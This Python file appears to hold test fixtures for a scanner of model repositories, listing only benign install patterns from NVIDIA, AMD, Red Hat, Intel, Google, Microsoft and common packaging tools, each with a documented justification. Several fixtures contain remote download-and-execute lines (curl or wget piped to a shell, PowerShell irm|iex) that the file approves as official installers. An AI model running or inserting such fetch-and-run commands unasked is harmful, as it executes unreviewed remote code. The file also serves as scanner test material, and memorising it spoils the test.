OWN_MODULE = '''\
"""Small helpers for evaluating this checkpoint."""

from __future__ import annotations


def exact_match(prediction: str, reference: str) -> bool:
    return prediction.strip().lower() == reference.strip().lower()
'''

TEST_MAKEFILE = """\
.PHONY: install test lint

install:
\tpip install -e ".[dev]"

test:
\tpython -m pytest -q tests/

lint:
\truff check src tests
"""

CI_WORKFLOW = """\
name: tests
on: [push, pull_request]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: astral-sh/setup-uv@v5
      - run: uv sync --all-extras
      - run: uv run pytest -q
"""

VENDOR_RUN = """\
#!/usr/bin/env bash
set -euo pipefail
here="$(cd "$(dirname "$0")" && pwd)"
exec vllm serve "$here" --tensor-parallel-size "${TP:-8}" --max-model-len 32768
"""

NEMO_FRONT = "library_name: nemo\nlicense: cc-by-4.0\npipeline_tag: automatic-speech-recognition"
NVIDIA_SOURCES = "the policy's `sources` list nvcr.io/nim/*, nvcr.io/nvidia/*, pypi.nvidia.com and github.com/NVIDIA/*"
APPROVE_INSTALLER = ("issue 24: a documented installer of a well-known tool, from that tool's own host, is policy "
                     "data (not a download-and-execute of unknown code)")

NVIDIA_STACK = [
    _benign("nim-docker-run", model_repo("Llama 3.1 8B Instruct NIM", "Run the NIM:\n\n" + block(NIM_QUICKSTART)),
        "NIM for LLMs Getting Started (docs.nvidia.com/nim/large-language-models, Launch NIM): docker login "
        "nvcr.io with $oauthtoken, docker run of nvcr.io/nim/meta/llama-3.1-8b-instruct:1.0.0 with the cache "
        f"mounted, then a curl POST to the local server (data, not a download that runs). {NVIDIA_SOURCES}."),
    _benign("ngc-cli-install-and-model-download", model_repo("Parakeet TDT 0.6B", block(NGC_CLI), front=NEMO_FRONT),
        "NGC CLI install (docs.ngc.nvidia.com/cli, Getting Started: wget the ngccli_linux.zip from "
        "api.ngc.nvidia.com, unzip, chmod u+x ngc-cli/ngc) and `ngc registry model download-version` "
        "(NGC CLI reference). The binary comes from NVIDIA's own host, the model from NGC: approve."),
    _benign("pyxis-ngc-container-sbatch", model_repo("Nemotron fine-tune", block("sbatch finetune.sbatch"),
                                                     {"finetune.sbatch": PYXIS_SBATCH}),
        "Slurm with pyxis: --container-image=nvcr.io#nvidia/pytorch:24.05-py3 is an enroot URI whose registry "
        "is nvcr.io (github.com/NVIDIA/pyxis wiki, Usage and Advanced Topics, which show "
        "`srun --container-image=nvcr.io/nvidia/pytorch:25.09-py3`). NGC's PyTorch container, a listed source."),
    _benign("pyxis-slash-form-and-enroot", model_repo("Nemotron fine-tune", block(
        "enroot import docker://nvcr.io#nvidia/nemo:24.07\nenroot create --name nemo nvidia+nemo+24.07.sqsh\n"
        "enroot start --rw --mount $PWD:/workspace nemo python /workspace/train.py\n"
        "srun --container-image=nvcr.io/nvidia/nemo:24.07 --container-mounts=$PWD:/workspace python train.py")),
        "enroot import docker://nvcr.io#nvidia/nemo (github.com/NVIDIA/enroot doc/cmd/import.md) and the "
        "registry/image form pyxis also accepts (pyxis wiki, Advanced Topics): both are NGC's NeMo container."),
    _benign("apptainer-ngc-image", model_repo("Nemotron fine-tune", block(
        "apptainer pull pytorch_24.05.sif docker://nvcr.io/nvidia/pytorch:24.05-py3\n"
        "apptainer exec --nv pytorch_24.05.sif python train.py --model .")),
        "Apptainer pulling NGC's PyTorch container (NGC catalog, 'Running with Singularity/Apptainer'; "
        "apptainer.org docs, docker:// URIs): nvcr.io/nvidia/* is listed."),
    _benign("nvidia-pypi-requirements", model_repo("Llama 3.1 8B FP8", PIP_R, {
        "requirements.txt": "--extra-index-url https://pypi.nvidia.com\ntensorrt-llm==0.12.0\n"
                            "nvidia-modelopt[torch]==0.17.0\ntransformers>=4.44\n"}),
        "TensorRT-LLM's Linux install (nvidia.github.io/TensorRT-LLM, Installing on Linux: `pip3 install "
        "tensorrt_llm --extra-index-url https://pypi.nvidia.com`) and ModelOpt's (`pip install "
        "\"nvidia-modelopt[all]\" --extra-index-url https://pypi.nvidia.com`): both names are published on "
        "PyPI too, so the extra index is no confusion risk; pypi.nvidia.com is listed."),
    _benign("nim-operator-helm", model_repo("Llama 3.1 8B Instruct NIM", "Kubernetes:\n\n" + block(NIM_OPERATOR),
                                            {"custom-values.yaml": NIM_HELM_VALUES}),
        "NIM Operator install (docs.nvidia.com/nim-operator, Installing: helm repo add nvidia "
        "https://helm.ngc.nvidia.com/nvidia, helm install nvidia/k8s-nim-operator) and the NIM LLM chart "
        "(docs.nvidia.com/nim/large-language-models, Deploying with Helm: helm fetch "
        "https://helm.ngc.nvidia.com/nim/charts/nim-llm-<ver>.tgz, values image.repository nvcr.io/nim/...). "
        "NVIDIA's chart repository and NIM images: approve."),
    _benign("helm-values-split-nvcr", model_repo("Llama 3.1 8B Instruct NIM", block("helm install nim ./chart"), {
        "chart/Chart.yaml": HELM_CHART, "chart/templates/deployment.yaml": HELM_DEPLOYMENT,
        "chart/values.yaml": "image:\n  registry: nvcr.io\n  repository: nim/meta/llama-3.1-8b-instruct\n"
                             "  tag: \"1.3.3\"\n  pullSecrets: [ngc-secret]\n"}),
        "The same registry/repository/tag split as the hostile chart, rendering nvcr.io/nim/meta/"
        "llama-3.1-8b-instruct:1.3.3: a listed NVIDIA source once the keys are joined."),
    _benign("dockerfile-ngc-base", model_repo("Nemotron fine-tune", block("docker build -t ft . && docker run --gpus "
                                                                          "all ft"), {
        "Dockerfile": "FROM nvcr.io/nvidia/pytorch:24.05-py3\nRUN pip install --no-cache-dir transformers==4.44.2 "
                      "accelerate peft\nCOPY . /workspace/model\nWORKDIR /workspace\n"}),
        "An NGC base image plus well-known PyPI packages (NGC PyTorch container docs, 'Customizing the "
        "container' with a Dockerfile FROM nvcr.io/nvidia/pytorch)."),
    _benign("nvidia-github-and-nemo", model_repo("Parakeet TDT 0.6B", block(
        "pip install \"nemo_toolkit[asr]\"\ngit clone https://github.com/NVIDIA/NeMo\n"
        "pip install git+https://github.com/NVIDIA/TensorRT-Model-Optimizer.git"), front=NEMO_FRONT),
        "NeMo's model cards (`pip install nemo_toolkit['all']`, github.com/NVIDIA/NeMo README) and a git "
        "install from NVIDIA's GitHub org, which the policy lists as nvidia's source."),
    _benign("gitmodules-vendor-owner", model_repo("Kernels", block("git submodule update --init"), {
        ".gitmodules": '[submodule "cutlass"]\n\tpath = third_party/cutlass\n\turl = https://github.com/NVIDIA/cutlass.git\n'}),
        "A submodule of NVIDIA's CUTLASS (the shape used by vLLM, FlashAttention and others): a listed source."),
]

ROCM_DOCKER = """\
docker pull rocm/vllm:latest
docker run -it --rm \\
    --network=host \\
    --group-add=video \\
    --ipc=host \\
    --cap-add=SYS_PTRACE \\
    --security-opt seccomp=unconfined \\
    --device /dev/kfd \\
    --device /dev/dri \\
    -v $(pwd):/model \\
    rocm/vllm:latest vllm serve /model --tensor-parallel-size 8
"""

OTHER_VENDORS = [
    _benign("rocm-vllm-docker", model_repo("Llama 3.1 8B MI300X", block(ROCM_DOCKER)),
        "AMD's vLLM-on-MI300X docs (rocm.docs.amd.com, vLLM inference: `docker pull rocm/vllm:latest`, run "
        "with /dev/kfd, /dev/dri, --group-add video, seccomp=unconfined). rocm/ is AMD's Docker Hub namespace, "
        "an upstream image."),
    _benign("rocm-pytorch-index", model_repo("Llama 3.1 8B MI300X", block(
        "pip3 install torch torchvision torchaudio --index-url https://download.pytorch.org/whl/rocm6.2\n"
        "pip install transformers accelerate")),
        "pytorch.org Get Started (Linux, Pip, ROCm 6.2): the PyTorch wheel index replaces PyPI for those "
        "packages; download.pytorch.org is PyTorch's own host."),
    _benign("rocm-github-fork", model_repo("Llama 3.1 8B MI300X", block(
        "git clone https://github.com/ROCm/flash-attention.git\ncd flash-attention && "
        "GPU_ARCHS=gfx942 python setup.py install")),
        "AMD's ROCm build of FlashAttention (rocm.docs.amd.com, Model acceleration libraries: clone "
        "github.com/ROCm/flash-attention, build for gfx942). The policy lists github.com/ROCm/* as amd's."),
    _benign("redhat-podman-registry", model_repo("Granite 3.1 8B Instruct", block(
        "podman login registry.redhat.io\n"
        "podman pull registry.redhat.io/rhelai1/instructlab-nvidia-rhel9:1.4\n"
        "podman run --rm -it --device nvidia.com/gpu=all --security-opt=label=disable --shm-size=4g "
        "-p 8000:8000 -v ~/.cache/huggingface:/root/.cache/huggingface:Z "
        "registry.redhat.io/rhaiis/vllm-cuda-rhel9:3.0.0 --model RedHatAI/granite-3.1-8b-instruct")),
        "RHEL AI and Red Hat AI Inference Server docs (docs.redhat.com: podman login registry.redhat.io, the "
        "rhelai1/instructlab-nvidia-rhel9 and rhaiis/vllm-cuda-rhel9 images). Red Hat's own registry: "
        "approve once issue 24 lists it among the vendors' sources (the issue names it, class 4)."),
    _benign("intel-xpu-image-and-index", model_repo("Llama 3.1 8B on Intel GPU", block(
        "docker pull intel/intel-extension-for-pytorch:2.3.110-xpu\n"
        "python -m pip install torch==2.3.1+cxx11.abi intel-extension-for-pytorch==2.3.110+xpu "
        "--extra-index-url https://pytorch-extension.intel.com/release-whl/stable/xpu/us/")),
        "Intel Extension for PyTorch install guide (intel.github.io/intel-extension-for-pytorch, XPU: the "
        "intel/ Docker Hub image and Intel's wheel index for the +xpu builds). Intel is a vendor-official org "
        "and these are its own hosts: approve once issue 24 lists them."),
    _benign("google-registry-images", model_repo("Gemma 2 9B", block(
        "docker run --gpus all -p 8080:8080 "
        "us-docker.pkg.dev/deeplearning-platform-release/gcr.io/huggingface-text-generation-inference-cu124.2-4."
        "ubuntu2204.py311 --model-id google/gemma-2-9b-it\n"
        "docker pull us-docker.pkg.dev/vertex-ai/vertex-vision-model-garden-dockers/pytorch-vllm-serve:latest")),
        "Hugging Face DLCs on Google Cloud (huggingface.co/docs/google-cloud, containers under "
        "us-docker.pkg.dev/deeplearning-platform-release) and Vertex AI Model Garden's vLLM image "
        "(us-docker.pkg.dev/vertex-ai/vertex-vision-model-garden-dockers): Google's registries."),
    _benign("microsoft-registry-image", model_repo("Phi-3.5 mini", block(
        "docker pull mcr.microsoft.com/azureml/openmpi4.1.0-cuda11.8-cudnn8-ubuntu22.04:latest\n"
        "pip install onnxruntime-genai-cuda")),
        "Azure ML base images on the Microsoft Container Registry (mcr.microsoft.com, the Azure ML curated "
        "environments docs) and ONNX Runtime GenAI from PyPI (onnxruntime.ai docs, Install)."),
]

PACKAGING = [
    _benign("conda-pytorch-nvidia-channels", model_repo("Nemotron fine-tune", block(
        "conda install pytorch==2.3.1 torchvision pytorch-cuda=12.1 -c pytorch -c nvidia\n"
        "conda env create -f environment.yml"), {
        "environment.yml": "name: nemotron\nchannels:\n  - conda-forge\n  - nvidia\ndependencies:\n"
                           "  - python=3.11\n  - cuda-toolkit=12.4\n  - pip\n  - pip:\n"
                           "      - transformers==4.44.2\n      - accelerate\n"}),
        "PyTorch's conda command (pytorch.org, Previous versions: `-c pytorch -c nvidia`) and an environment "
        "on conda-forge plus NVIDIA's channel (anaconda.org/nvidia, listed as nvidia's) with PyPI packages."),
    _benign("uv-project-pytorch-index", model_repo("Nemotron fine-tune", block("uv sync && uv run python train.py"), {
        "pyproject.toml": UV_PYTORCH, "uv.lock": UV_LOCK}),
        "uv's PyTorch guide (docs.astral.sh/uv, Using uv with PyTorch: an `explicit` pytorch-cu124 index used "
        "only for torch/torchvision via [tool.uv.sources]) and a uv.lock whose sources are PyPI "
        "(files.pythonhosted.org) and download.pytorch.org."),
    _benign("pep723-pypi-script", model_repo("Nemotron Mini", block("uv run generate.py"),
                                             {"generate.py": PEP723_BENIGN}),
        "A PEP 723 script (docs.astral.sh/uv, Running scripts: declaring dependencies) whose dependencies are "
        "well-known PyPI packages."),
    _benign("requirements-pytorch-extra-index", model_repo("Nemotron fine-tune", PIP_R, {
        "requirements.txt": "--extra-index-url https://download.pytorch.org/whl/cu124\n"
                            "torch==2.4.1\ntransformers>=4.44\naccelerate\nflash-attn\nsentencepiece\n"}),
        "PyTorch's CUDA wheel index beside PyPI (pytorch.org Get Started) and well-known packages."),
    _benign("endpoints-requirements-well-known", model_repo("Endpoint", "Deploy on Inference Endpoints.\n", {
        "requirements.txt": "transformers==4.44.2\naccelerate>=0.33\nsentencepiece\nprotobuf\n"}),
        "Inference Endpoints 'Add custom dependencies' (huggingface.co/docs/inference-endpoints: a root "
        "requirements.txt the container pip-installs): pinned well-known PyPI packages."),
    _benign("endpoints-handler-and-requirements", model_repo("Endpoint", "Deploy on Inference Endpoints.\n", {
        "handler.py": HANDLER, "requirements.txt": "transformers==4.44.2\naccelerate\n"}),
        "The Endpoints custom-handler shape (huggingface.co/docs/inference-endpoints, Create custom Inference "
        "Handler): a plain pipeline handler and well-known requirements. The handler runs on deploy, so a "
        "person looks (the loader-map rule), but nothing in the install is unknown.",
        vendor="review", reason=HANDLER_REVIEW),
    _benign("transformers-from-github", model_repo("Nemotron Nano", block(
        "pip install git+https://github.com/huggingface/transformers\npip install -U accelerate")),
        "The common 'install transformers from main' line of new-architecture cards "
        "(huggingface.co/docs/transformers, Installation, Install from source): huggingface/* is upstream."),
    _benign("pip-install-own-code", model_repo("Nemotron eval", block("pip install -e .\npython -m pytest -q"), {
        "pyproject.toml": OWN_PACKAGE, "src/nemotron_eval_utils/__init__.py": OWN_MODULE,
        "tests/test_metrics.py": "from nemotron_eval_utils import exact_match\n\n\ndef test_exact_match() -> None:\n"
                                 "    assert exact_match(' Paris', 'paris')\n"}),
        "pip install -e . builds the repo's own project (pip docs, Local project installs; setuptools "
        "development mode): its code is this repo's files, vetted in this very scan, and its dependencies "
        "are PyPI packages."),
    _benign("makefile-pytest-only", model_repo("Nemotron eval", block("make install test"), {
        "Makefile": TEST_MAKEFILE, "pyproject.toml": OWN_PACKAGE}),
        "A Makefile whose recipes only install the repo itself and run pytest and ruff: no download."),
    _benign("github-actions-uv-pytest", model_repo("Nemotron eval", "CI runs the tests.\n", {
        ".github/workflows/tests.yml": CI_WORKFLOW, "pyproject.toml": OWN_PACKAGE}),
        "A CI workflow with actions/checkout and astral-sh/setup-uv (uv docs, Using uv in GitHub Actions) "
        "running uv sync and pytest."),
]

INSTALLERS = [
    _benign("uv-installer-one-liner", model_repo("Nemotron Mini", block(
        "curl -LsSf https://astral.sh/uv/install.sh | sh\n"
        "powershell -ExecutionPolicy ByPass -c \"irm https://astral.sh/uv/install.ps1 | iex\"\nuv run generate.py"),
        {"generate.py": PEP723_BENIGN}),
        f"uv's documented standalone installer (docs.astral.sh/uv, Installation) for Linux/macOS and Windows. "
        f"{APPROVE_INSTALLER}."),
    _benign("homebrew-installer", model_repo("Nemotron Mini GGUF", block(
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"\n'
        "brew install llama.cpp\nllama-server -hf nvidia/Nemotron-Mini-4B-Instruct-GGUF"),
        front="library_name: gguf\nlicense: other"),
        f"Homebrew's installer line (brew.sh) and llama.cpp's `brew install llama.cpp` (ggml-org/llama.cpp "
        f"docs/install.md). The script is Homebrew's own repository. {APPROVE_INSTALLER}."),
    _benign("miniconda-installer", model_repo("Nemotron fine-tune", block(
        "mkdir -p ~/miniconda3\n"
        "wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O ~/miniconda3/miniconda.sh\n"
        "bash ~/miniconda3/miniconda.sh -b -u -p ~/miniconda3\nrm ~/miniconda3/miniconda.sh\n"
        "~/miniconda3/bin/conda init bash")),
        "Miniconda's quick command-line install (docs.anaconda.com/miniconda, Installing Miniconda, Linux): "
        f"wget from repo.anaconda.com, then bash -b. {APPROVE_INSTALLER}."),
    _benign("nix-installer", model_repo("Nemotron Mini", block(
        "sh <(curl -L https://nixos.org/nix/install) --daemon\nnix-shell -p python311Packages.transformers")),
        f"Nix's multi-user install (nixos.org/download). {APPROVE_INSTALLER}."),
    _benign("rustup-installer", model_repo("Nemotron tokenizer", block(
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n"
        "pip install tokenizers --no-binary tokenizers")),
        "rustup's installer (rustup.rs), as tokenizers' build-from-source docs require a Rust toolchain "
        f"(huggingface.co/docs/tokenizers, Installation). {APPROVE_INSTALLER}."),
    _benign("ollama-installer", model_repo("Nemotron Mini GGUF", block(
        "curl -fsSL https://ollama.com/install.sh | sh\nollama run hf.co/nvidia/Nemotron-Mini-4B-Instruct-GGUF"),
        front="library_name: gguf\nlicense: other"),
        "Ollama's Linux install (ollama.com/download/linux) and `ollama run hf.co/{user}/{repo}` "
        f"(huggingface.co/docs/hub, Use Ollama with any GGUF model). {APPROVE_INSTALLER}."),
]

# Shapes that look like the hostile ones and are not: the same forms with nothing downloaded and run.

HARD_SHAPES = [
    _benign("curl-local-endpoint-to-json-tool", model_repo("Nemotron Mini", block(
        "vllm serve nvidia/Nemotron-Mini-4B-Instruct &\n"
        "curl -s http://localhost:8000/v1/models | python3 -m json.tool\n"
        "curl -s http://localhost:8000/v1/completions -H 'Content-Type: application/json' "
        "-d '{\"model\": \"nvidia/Nemotron-Mini-4B-Instruct\", \"prompt\": \"Hi\"}' | jq .choices")),
        "curl piped into `python3 -m json.tool` and jq: the interpreter runs a fixed module on the data, it "
        "does not read a program from the pipe (python(1) -m; docs.python.org json.tool). vLLM quickstart "
        "shape (docs.vllm.ai, OpenAI-compatible server)."),
    _benign("python-heredoc-plain-code", model_repo("Nemotron Mini", block(
        "python - <<'EOF'\nfrom transformers import AutoTokenizer, AutoModelForCausalLM\n"
        "tok = AutoTokenizer.from_pretrained(\"nvidia/Nemotron-Mini-4B-Instruct\")\n"
        "model = AutoModelForCausalLM.from_pretrained(\"nvidia/Nemotron-Mini-4B-Instruct\")\n"
        "print(tok.decode(model.generate(**tok(\"Hi\", return_tensors=\"pt\"))[0]))\nEOF")),
        "The python - here-document form of the hostile case, running fixed transformers code on this repo: "
        "the program is in the card, nothing is fetched and exec'd."),
    _benign("python-c-check", model_repo("Nemotron Mini", block(
        "python -c \"import torch; print(torch.__version__, torch.cuda.is_available())\"")),
        "python -c with a literal environment check, the line of countless install guides."),
    _benign("heredoc-writes-config", model_repo("Nemotron Mini", block(
        "cat > serve.yaml <<'EOF'\nmodel: nvidia/Nemotron-Mini-4B-Instruct\ntensor-parallel-size: 1\n"
        "max-model-len: 4096\nEOF\nvllm serve --config serve.yaml")),
        "A here-document saved as a YAML config that `vllm serve --config` reads (docs.vllm.ai, Engine "
        "arguments, --config): written, never run."),
    _benign("variables-for-model-and-image", model_repo("Llama 3.1 8B Instruct NIM", block(
        "export IMG_NAME=\"nvcr.io/nim/meta/llama-3.1-8b-instruct:1.0.0\"\n"
        "export MODEL=\"meta/llama-3.1-8b-instruct\"\n"
        "docker run --rm --gpus all -e NGC_API_KEY -p 8000:8000 $IMG_NAME\n"
        "curl -s localhost:8000/v1/chat/completions -d \"{\\\"model\\\": \\\"${MODEL}\\\"}\"")),
        "NIM docs set IMG_NAME and run `docker run ... $IMG_NAME` (docs.nvidia.com/nim, Getting Started): the "
        "variable resolves to a listed NVIDIA image."),
    _benign("vendor-extensionless-run", model_repo("Nemotron 70B", "Serve with `./run`.\n", {"run": VENDOR_RUN}),
        "An extensionless #!/usr/bin/env bash launcher that only execs vllm on the repo folder."),
    _benign("hf-download-weights-then-serve", model_repo("Nemotron Mini", block(
        "hf download nvidia/Nemotron-Mini-4B-Instruct --local-dir nemotron-mini\nvllm serve ./nemotron-mini")),
        "hf download of a vendor repo's weights (huggingface_hub CLI docs), then vLLM serves the folder: the "
        "download is data loaded by a runtime, not a project pip builds."),
    _benign("wget-safetensors-from-resolve", model_repo("Nemotron Mini", block(
        "wget https://huggingface.co/nvidia/Nemotron-Mini-4B-Instruct/resolve/main/model.safetensors\n"
        "git lfs install && git clone https://huggingface.co/nvidia/Nemotron-Mini-4B-Instruct")),
        "Weights fetched from resolve/main and a git clone of the model (huggingface.co/docs/hub, Downloading "
        "models): data files, never installed or executed."),
    _benign("tgi-docker-run", model_repo("Nemotron Mini", block(
        "model=nvidia/Nemotron-Mini-4B-Instruct\nvolume=$PWD/data\n"
        "docker run --gpus all --shm-size 1g -p 8080:80 -v $volume:/data "
        "ghcr.io/huggingface/text-generation-inference:2.4.0 --model-id $model")),
        "TGI's quick tour (huggingface.co/docs/text-generation-inference, Quick Tour): the "
        "ghcr.io/huggingface image is upstream."),
    _benign("compose-nim-image", model_repo("Llama 3.1 8B Instruct NIM", block("docker compose up -d"), {
        "compose.yaml": "services:\n  nim:\n    image: nvcr.io/nim/meta/llama-3.1-8b-instruct:1.3.3\n"
                        "    environment: [NGC_API_KEY]\n    ports: [\"8000:8000\"]\n    deploy:\n      resources:\n"
                        "        reservations:\n          devices:\n            - driver: nvidia\n"
                        "              count: all\n              capabilities: [gpu]\n"}),
        "A compose service for a NIM image (docs.docker.com, GPU support in Compose): a listed NVIDIA source."),
]

BENIGN_CASES = NVIDIA_STACK + OTHER_VENDORS + PACKAGING + INSTALLERS + HARD_SHAPES

register_all(HOSTILE_CASES + BENIGN_CASES)
